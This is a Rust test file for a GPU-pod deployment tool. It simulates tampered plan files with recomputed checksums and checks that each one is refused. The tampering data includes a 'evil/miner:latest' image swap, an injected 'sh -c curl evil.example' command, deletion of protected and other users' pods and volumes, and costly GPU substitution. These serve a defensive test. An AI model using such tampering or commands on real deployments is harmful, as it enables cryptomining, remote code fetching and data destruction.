//! A plan file that somebody edited who has the program, so that both of its sums fit again: the real binary, what it
//! says, and the account.
#![expect(clippy::disallowed_methods, reason = "stories play in folders of their own")]

use std::fs;

use insta::assert_snapshot;
use podform::model::plan::{Plan, Planned};
use podform::plan::digest;
use podform::state::planfile::{SavedPlan, read};
use serde_json::{Value, json};

use super::mutants::with_sum;
use crate::formats::plan_file;
use crate::stage::{Stage, request};

const SPEC: &str = "\
version: 1
project: attacked
provider: { kind: simulator }
secrets: { token: { env: TOKEN } }
volumes:
  data: { size: 100GB, data_center: EU-RO-1, protect: true }
pods:
  llm:
    image: vllm/vllm-openai:v0.19.1
    gpu: RTX 4090
    env: { TOKEN: { secret: token } }
  vault:
    image: nginx:1.29
    gpu: RTX 4090
    volumes: [{ local: 50GB, path: /workspace }]
    lifecycle: { protect: true }
";

/// An account with a protected pod, a protected volume, and a pod and a volume of somebody else, and a plan to change
/// the image of one pod.
struct Scene {
    stage: Stage,
    /// What is there, as the account lists it.
    before: Vec<Value>,
    document: Value,
}

impl Scene {
    fn set() -> Self {
        let mut stage = Stage::set("attacks");
        stage.act("write pods.yaml", SPEC);
        stage.act("simulate --store state/simulator.db", "");
        let order = r#"{"name":"theirs","image":"theirs:1","gpu":{"id":"NVIDIA L4","count":1},"disk":10}"#;
        let mut act = |line: &str, ends: &str| {
            let said = stage.act(line, "");
            assert!(said.ends_with(ends), "{line}: {said}");
        };
        act(&format!("console POST /v2/pods '{order}'"), "201\n");
        act(
            r#"console POST /v2/network-volumes {"name":"theirs","size":10,"dataCenter":"EU-RO-1"}"#,
            "201\n",
        );
        // How old something is said to be does not hang on how often the world was asked.
        act("wait 100", "");
        act("TOKEN=s3cret-value-1 podform apply -q --auto-approve --parallelism 1", "[exit 0]\n");
        act("edit pods.yaml s/v0.19.1/v0.20.0/", "");
        act("TOKEN=s3cret-value-1 podform plan -q -o the.plan", "[exit 0]\n");
        let document = serde_json::from_str(&fs::read_to_string(stage.path("the.plan")).unwrap()).unwrap();
        let before = listed(&stage);
        Self { stage, before, document }
    }

    /// Returns the id of the one object with a name that begins so.
    fn id(&self, name: &str) -> Value {
        // A volume has no image, and ours has a mark in its name.
        let of = |object: &&Value| {
            let is_pod = !object["image"].is_null();
            is_pod != name.ends_with(".data")
                && object["name"].as_str().is_some_and(|found| found.starts_with(name))
        };
        let [object] = self.before.iter().filter(of).collect::<Vec<_>>()[..] else {
            panic!("{name} in {:?}", self.before)
        };
        object["id"].clone()
    }

    /// Edits the plan, makes both sums fit, applies the file, and returns what was said. The account is as it was.
    fn attacked(&mut self, edit: impl FnOnce(&Self, &mut Value)) -> String {
        let mut document = self.document.clone();
        edit(self, &mut document["planned"]["changes"]);
        let SavedPlan { mut planned, inputs, positions } = read(&with_sum(&document)).unwrap();
        let plan: &mut Plan = match &mut planned {
            Planned::Changes(plan) | Planned::NoChanges(plan) | Planned::Blocked { reasons: _, plan } => plan,
        };
        plan.digest = digest(plan);
        let text = plan_file(&SavedPlan { planned, inputs, positions });
        fs::write(self.stage.path("edited.plan"), text).unwrap();
        let said = self.stage.act("TOKEN=s3cret-value-1 podform apply edited.plan", "");
        assert_eq!(listed(&self.stage), self.before);
        said
    }
}

/// Returns every pod and volume without what moves by itself.
fn listed(stage: &Stage) -> Vec<Value> {
    let url = &stage.served.as_ref().unwrap().url;
    let mut all = Vec::new();
    for (path, key) in [("/v2/pods", "pods"), ("/v2/network-volumes", "networkVolumes")] {
        let answer: Value = serde_json::from_str(&request(url, "GET", path, "").1).unwrap();
        for object in answer[key].as_array().unwrap() {
            let kept = ["id", "name", "image", "env", "status", "size", "gpu", "cpu"];
            let kept = kept.map(|key| (key.to_owned(), object[key].clone()));
            all.push(Value::Object(kept.into_iter().collect()));
        }
    }
    all.sort_by_key(|object| object["id"].to_string());
    all
}

/// An action that ends something, at an address that does not exist, with the cost of another action.
fn end(plan: &mut Value, operation: Value, address: &str) {
    let cost = plan["actions"]["llm:update"]["cost"].clone();
    // What is unchanged has no actions.
    plan["unchanged"].as_array_mut().unwrap().retain(|unchanged| unchanged != address);
    plan["actions"][format!("{address}:delete")] = json!({
        "operation": operation, "reason": "destroyed", "changes": [], "consequences": [], "cost": cost,
        "record": { "remove": { "tombstone": false } },
    });
}

/// What a file is made to ask for, the edit, and what is said of it beside that it is stale.
type Attack<'a> = (&'a str, &'a dyn Fn(&Scene, &mut Value), &'a str);

/// All that a file can be made to ask for beside what is planned at this moment. Each is refused alike, and what is
/// printed is the difference between what the file says and what would be done.
#[test]
fn a_file_that_asks_for_something_else_is_refused_with_the_difference() {
    let mut scene = Scene::set();
    let patch = |plan: &mut Value, key: &str, value: Value| {
        plan["actions"]["llm:update"]["operation"]["update_pod"]["patch"][key] = value;
    };
    assert_snapshot!(scene.attacked(|_, plan| patch(plan, "image", json!("evil/miner:latest"))), @"
    --- approved
    +++ now
    @@ -28,4 +28,4 @@
       total an hour              $1.5019/h           $1.5019/h
       not managed                  $359.40             $359.40                none
     
    -Digest: d28a45e4517d4fbdc0fe6488175e3eea-542200000
    +Digest: bf25698c5dec7a607f494a0f4a456b5b-542200000
    [stderr]
    error: the saved plan is stale: another plan is needed now; what it shows of `llm:update` is as now, and what it would do is not
    hint: plan again and read what has changed
    [exit 6]
    ");
    let disguised = "; what it shows of `llm:update` is as now, and what it would do is not";
    let attacks: [Attack; 6] = [
        ("a command", &|_, plan| patch(plan, "command", json!(["sh", "-c", "curl evil.example"])), disguised),
        (
            "a protected pod ends",
            &|scene, plan| {
                end(plan, json!({ "delete_pods": { "ids": [scene.id("attacked-vault")] } }), "zz");
            },
            "",
        ),
        (
            "a pod of somebody else ends",
            &|scene, plan| end(plan, json!({ "delete_pods": { "ids": [scene.id("theirs")] } }), "zz"),
            "",
        ),
        (
            "a pod of somebody else ends at our address",
            &|scene, plan| end(plan, json!({ "delete_pods": { "ids": [scene.id("theirs")] } }), "vault"),
            "",
        ),
        (
            "a protected volume ends",
            &|scene, plan| {
                let delete = json!({ "delete_volume": { "id": scene.id("attacked.data") } });
                end(plan, delete, "volume.zz");
            },
            "",
        ),
        (
            "another pod is changed",
            &|scene, plan| {
                let id = scene.id("attacked-vault");
                plan["actions"]["llm:update"]["record"]["put"]["id"] = json!({ "pod": id });
                plan["actions"]["llm:update"]["operation"]["update_pod"]["id"] = id;
            },
            disguised,
        ),
    ];
    for (attack, edit, more) in attacks {
        let said = scene.attacked(edit);
        let refused = format!(
            "[stderr]\n\
             error: the saved plan is stale: another plan is needed now{more}\n\
             hint: plan again and read what has changed\n\
             [exit 6]\n"
        );
        assert!(said.ends_with(&refused), "{attack}: {said}");
        assert!(!said.contains("s3cret"), "{attack}: {said}");
    }
    // The file as it was written still runs.
    let said = scene.stage.act("TOKEN=s3cret-value-1 podform apply -q the.plan --parallelism 1", "");
    assert!(said.ends_with("[exit 0]\n"), "{said}");
}

/// Eight of the dearest GPUs in place of one, for a pod that is to be created.
#[test]
fn a_file_that_rents_other_machines_is_refused() {
    let mut scene = Scene::set();
    scene.stage.act("append pods.yaml", "  next: { image: \"nginx:1.29\", gpu: L4 }\n");
    scene.stage.act("TOKEN=s3cret-value-1 podform plan -q -o the.plan", "");
    scene.document =
        serde_json::from_str(&fs::read_to_string(scene.stage.path("the.plan")).unwrap()).unwrap();
    let said = scene.attacked(|_, plan| {
        let attempts = &mut plan["actions"]["next:create"]["operation"]["create_pod"]["attempts"];
        let place = &mut attempts[0]["candidate"]["placement"];
        place["compute"] = json!({ "gpu": { "id": "NVIDIA H100 80GB HBM3", "count": 8 } });
    });
    assert_snapshot!(said, @"
    --- approved
    +++ now
    @@ -18,7 +18,7 @@
           + gpu:         L4
           + cloud:       secure
           + data_center: (known after apply)
    -      place: NVIDIA H100 80GB HBM3 x8, secure, any data center: $0.49/h, stock high (AP-IN-1 high, AP-JP-1 high, CA-MTL-3 high, EU-CZ-1 high, EU-RO-1 high, EU-SE-1 high, 11 more)
    +      place: NVIDIA L4 x1, secure, any data center: $0.49/h, stock high (AP-IN-1 high, AP-JP-1 high, CA-MTL-3 high, EU-CZ-1 high, EU-RO-1 high, EU-SE-1 high, 11 more)
           cost:  $0.00 -> $359.70 a month ($0.00/h -> $0.4927/h)
                  compute $0.00 -> $357.70, storage $0.00 -> $2.00
     
    @@ -41,4 +41,4 @@
       total an hour              $1.5019/h           $1.9947/h
       not managed                  $359.40             $359.40                none
     
    -Digest: 3f87beb0270a23034eaac3a72cde91b9-901900000
    +Digest: 50c9a1b050a5eb0519ea68e6b6db3529-901900000
    [stderr]
    error: the saved plan is stale: another plan is needed now
    hint: plan again and read what has changed
    [exit 6]
    ");
}
